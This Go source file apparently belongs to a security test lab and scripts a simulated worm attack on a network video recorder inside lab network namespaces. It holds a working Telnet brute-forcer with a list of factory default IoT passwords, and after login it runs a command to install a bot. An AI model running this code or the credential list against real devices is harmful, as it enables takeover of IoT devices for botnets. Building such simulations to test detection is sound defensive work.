// SPDX-License-Identifier: Apache-2.0

package story

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"stillwatch/internal/testlab/machine"
	"stillwatch/internal/testlab/netns"
)

// The keys of the steps of story S3. The steps of the bot have their own keys in package machine.
const (
	s3Guess = "s3-guess"
	s3Login = "s3-login"
	s3Leave = "s3-leave"
)

// actS3 guesses the Telnet password of the recorder and installs a bot there.
func actS3(ctx context.Context) error {
	report(netns.Worm, s3Guess, "tries default passwords on Telnet of nvr: twelve failures in four connections")
	pairs := []string{"root vizxv", "root admin", "admin admin", "root 888888", "root xmhdipc", "root default", "root juantech", "root 123456",
		"root 54321", "support support", "root root", "root 12345"}
	for i := 0; i < len(pairs); i += 3 {
		t, err := dialTelnet(ctx)
		if err != nil {
			return err
		}
		for _, pair := range pairs[i : i+3] {
			user, password, _ := strings.Cut(pair, " ")
			if ok, err := t.try(user, password); ok || err != nil {
				return errors.Join(fmt.Errorf("login %v", ok), err)
			}
		}
		_ = t.Close() // the recorder closes it after three attempts
	}
	report(netns.Worm, s3Login, "root with the factory password logs in; the shell of BusyBox answers")
	t, err := dialTelnet(ctx)
	if err != nil {
		return err
	}
	if ok, err := t.try(machine.RecorderUser, machine.RecorderPassword); !ok || err != nil {
		return errors.Join(errors.New("the right password was refused"), err)
	}
	for _, line := range []string{"enable", "cat /proc/mounts", machine.Install} {
		if err := t.run(line); err != nil {
			return err
		}
		pause(ctx, 300*time.Millisecond)
	}
	pause(ctx, 12*time.Second)
	report(netns.Worm, s3Leave, "leaves the Telnet session")
	return t.Close()
}

// telnet is a client that waits for prompts.
type telnet struct{ net.Conn }

func dialTelnet(ctx context.Context) (*telnet, error) {
	c, err := machine.From(netns.Worm, 3*time.Second).DialContext(ctx, "tcp4", net.JoinHostPort(netns.Address(netns.Recorder).String(), "23"))
	if err != nil {
		return nil, err
	}
	t := &telnet{c}
	if _, err := t.until("login: "); err != nil {
		return nil, err
	}
	_, err = io.WriteString(c, "\xff\xfc\x01\xff\xfc\x1f\xff\xfd\x01\xff\xfd\x03") // WONT ECHO, WONT NAWS, DO ECHO, DO SGA
	return t, err
}

// until reads up to the first of several texts and returns its index.
func (t *telnet) until(texts ...string) (int, error) {
	if err := t.SetReadDeadline(time.Now().Add(5 * time.Second)); err != nil {
		return 0, err
	}
	var seen []byte
	for buf := make([]byte, 512); ; {
		n, err := t.Read(buf)
		seen = append(seen, buf[:n]...)
		for i, text := range texts {
			if bytes.HasSuffix(seen, []byte(text)) {
				return i, nil
			}
		}
		if err != nil {
			return 0, fmt.Errorf("telnet: waiting for %q: %w", texts, err)
		}
	}
}

// try enters a name and a password at the prompts and reports whether a shell answers.
func (t *telnet) try(user, password string) (bool, error) {
	for _, x := range [][2]string{{user, "Password: "}, {password, ""}} {
		if _, err := io.WriteString(t, x[0]+"\r\n"); err != nil {
			return false, err
		}
		if x[1] == "" {
			break
		}
		if _, err := t.until(x[1]); err != nil {
			return false, err
		}
	}
	which, err := t.until("# ", "login: ", "incorrect\r\n")
	return which == 0 && err == nil, err
}

func (t *telnet) run(line string) error {
	if _, err := io.WriteString(t, line+"\r\n"); err != nil {
		return err
	}
	_, err := t.until("# ")
	return err
}
